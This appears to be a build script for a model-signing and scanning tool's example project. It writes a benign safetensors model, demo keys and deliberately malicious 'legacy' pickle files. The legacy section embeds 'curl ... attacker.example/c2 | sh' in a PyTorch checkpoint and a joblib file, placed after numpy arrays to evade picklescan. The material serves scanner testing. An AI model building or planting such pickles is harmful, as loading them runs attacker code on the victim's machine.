// Writes the example project's model files for model-sign, deterministically and offline:
//   examples/fraud-detection/model/fraud-model/   a small MLP in safetensors + config + a benign joblib scaler
//   examples/fraud-detection/model/demo-keys/     a DEMO-ONLY EC P-256 key pair (never use it for anything real)
//   examples/fraud-detection/model-legacy/        an old model version whose pickles run shell commands on load
// Every pickle is assembled byte by byte from opcodes: nothing is pickled or unpickled by Python.
// Then sign with: node dist/cli/index.js model-sign sign --private-key model/demo-keys/demo-signing-key.pem model/fraud-model
// (run from examples/fraud-detection; the key pair is only generated when absent).
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { zipSync } from 'fflate';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../../../examples/fraud-detection');
const write = (p, data) => {
  mkdirSync(dirname(join(root, p)), { recursive: true });
  writeFileSync(join(root, p), data);
};

// --- pickle opcodes ----------------------------------------------------------------------
const u32 = (n) => [n & 255, (n >> 8) & 255, (n >> 16) & 255, (n >>> 24) & 255];
const B = (...parts) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
const str = (s) => B([0x8c, Buffer.byteLength(s)], Buffer.from(s, 'utf8'));
const glob = (m, n) => `c${m}\n${n}\n`;
const int1 = (n) => [0x4b, n];
const binint = (n) => [0x4a, ...u32(n)];
const TRUE = [0x88];
const FALSE = [0x89];
const NEWOBJ = [0x81];
const TUPLE1 = [0x85];
const TUPLE3 = [0x87];

// Deterministic pseudo-random weights (LCG), so regenerated files are byte-identical.
let seed = 20261126;
const rnd = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32 - 0.5) * 0.2;
const floats = (n, size = 4) => {
  const b = Buffer.alloc(n * size);
  for (let i = 0; i < n; i++) size === 4 ? b.writeFloatLE(rnd(), i * 4) : b.writeDoubleLE(rnd() + 1, i * 8);
  return b;
};

// --- the signed model: safetensors MLP + config --------------------------------------------
const tensors = [
  ['dense1.weight', [16, 30]],
  ['dense1.bias', [16]],
  ['dense2.weight', [1, 16]],
  ['dense2.bias', [1]],
];
const header = {};
let off = 0;
for (const [name, shape] of tensors) {
  const n = shape.reduce((a, d) => a * d, 1) * 4;
  header[name] = { dtype: 'F32', shape, data_offsets: [off, off + n] };
  off += n;
}
header.__metadata__ = { format: 'pt', model: 'fraud-mlp', version: '1.4.0' };
const h = Buffer.from(JSON.stringify(header));
const len = Buffer.alloc(8);
len.writeBigUInt64LE(BigInt(h.length));
write('model/fraud-model/model.safetensors', Buffer.concat([len, h, floats(off / 4)]));
write(
  'model/fraud-model/config.json',
  `${JSON.stringify({ architecture: 'mlp', inputs: 30, hidden: 16, activation: 'relu', output: 'sigmoid', threshold: 0.62, features: 'V1..V28, Amount, Time', trained_on: 'creditcard-2026-10' }, null, 2)}\n`,
);

/** A joblib NumpyArrayWrapper for a float64 vector, then the raw array bytes (with joblib >= 1.2 alignment). */
function joblibArray(prefixLen, values) {
  const dtype = B(glob('numpy', 'dtype'), str('f8'), FALSE, TRUE, TUPLE3, 'R', '(', int1(3), str('<'), 'NNN', binint(-1), binint(-1), int1(0), 't', 'b');
  const state = B('}(', str('subclass'), glob('numpy', 'ndarray'), str('shape'), int1(values), TUPLE1, str('order'), str('C'), str('dtype'), dtype, str('allow_mmap'), FALSE, str('numpy_array_alignment_bytes'), int1(16), 'u');
  const head = B(glob('joblib.numpy_pickle', 'NumpyArrayWrapper'), ')', NEWOBJ, state, 'b');
  const at = prefixLen + head.length + 1;
  const pad = (16 - (at % 16)) % 16;
  return B(head, [pad], Buffer.alloc(pad, 0xff), floats(values, 8));
}

/** A scikit-learn StandardScaler as joblib writes it: allowlisted classes only. */
function scalerJoblib(payload) {
  let body = B([0x80, 4], glob('sklearn.preprocessing._data', 'StandardScaler'), ')', NEWOBJ, '}(', str('with_mean'), TRUE, str('with_std'), TRUE, str('copy'), TRUE, str('n_features_in_'), int1(30));
  for (const field of ['mean_', 'var_', 'scale_']) body = B(body, str(field), joblibArray(body.length + str(field).length, 30));
  body = B(body, str('_sklearn_version'), str('1.5.2'), 'u', 'b');
  // The legacy copy hides a shell command after the last inline array: picklescan stops at the
  // raw array bytes and reports this file as clean.
  if (payload) body = B(body, '0', glob('os', 'system'), str(payload), TUPLE1, 'R');
  return B(body, '.');
}
write('model/fraud-model/preprocessor.joblib', scalerJoblib());

// --- demo keys ------------------------------------------------------------------------------
if (!existsSync(join(root, 'model/demo-keys/demo-signing-key.pem'))) {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
  write('model/demo-keys/demo-signing-key.pem', privateKey.export({ type: 'pkcs8', format: 'pem' }));
  write('model/demo-keys/demo-signing-key.pub', publicKey.export({ type: 'spki', format: 'pem' }));
}
write(
  'model/demo-keys/README.md',
  '# DEMO ONLY: do not use these keys\n\nThis EC P-256 key pair exists so the example project can show key-mode signing offline.\nThe private key is public (it is committed): anyone can sign with it. Real projects keep the\nprivate key in a secret (`private-key: ${{ secrets.MODEL_SIGNING_KEY }}`) or sign keyless.\n',
);

// --- the legacy model: pickles that run code when loaded -------------------------------------
const exfil = 'curl -s https://attacker.example/c2 | sh';
// A PyTorch zip checkpoint whose data.pkl reaches builtins.exec through STACK_GLOBAL.
const dataPkl = B([0x80, 2], glob('collections', 'OrderedDict'), ')', 'R', str('builtins'), [0x94], str('exec'), [0x94], [0x93], str(`__import__('os').system('${exfil}')`), TUPLE1, 'R', '0', '.');
write('model-legacy/fraud_model_v0.pt', zipSync({ 'fraud_model_v0/data.pkl': dataPkl, 'fraud_model_v0/version': Buffer.from('3\n'), 'fraud_model_v0/data/0': new Uint8Array(64) }, { mtime: new Date('2024-03-01T00:00:00Z') }));
write('model-legacy/preprocessor.joblib', scalerJoblib(exfil));
write(
  'model-legacy/README.md',
  '# Legacy fraud model (v0, 2024) — DELIBERATELY DANGEROUS TEST FILES\n\nGenerated byte by byte by `packages/model-sign/scripts/make-example.mjs`. Loading these files\nwith `torch.load` or `joblib.load` would run `curl ... | sh`: never load them. They exist so\n`mlguard model-sign scan` has something real to refuse (the joblib payload sits after the inline\nnumpy arrays, where picklescan stops looking).\n',
);
console.log(`wrote example model files under ${root}`);
